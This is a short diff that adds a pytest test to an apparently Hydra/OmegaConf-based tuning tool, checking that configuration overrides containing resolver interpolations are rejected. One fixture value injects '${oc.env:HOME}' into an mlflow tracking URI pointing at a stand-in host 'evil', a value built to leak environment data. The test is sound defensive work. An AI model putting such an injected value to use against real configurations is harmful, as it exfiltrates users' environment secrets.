@@ -178,6 +178,19 @@ def test_values_of_a_wrong_kind(tmp_path, key, wrong):
         read_definition(file.parent)
 
 
+@pytest.mark.parametrize(
+    "other",
+    [
+        {"fixed": [*QUICK, "logger=mlflow", "logger.mlflow.tracking_uri=http://evil/${oc.env:HOME}"]},
+        {"searched": {"optimizer.lr": "0.1,${oc.env:HOME}"}},
+    ],
+)
+def test_it_asks_no_resolver(typed, tmp_path, other):
+    leave(tmp_path, **other)
+    with pytest.raises(UserError, match=r"oc\.env:HOME.* is not of a trial"):
+        define(typed())
+
+
 def test_keys_of_an_earlier_version_are_left_out(tmp_path):
     leave(tmp_path, fixed=[*QUICK, "data.augment_on=cpu"])
     definition = read_definition(tmp_path / "outputs/tune/s")
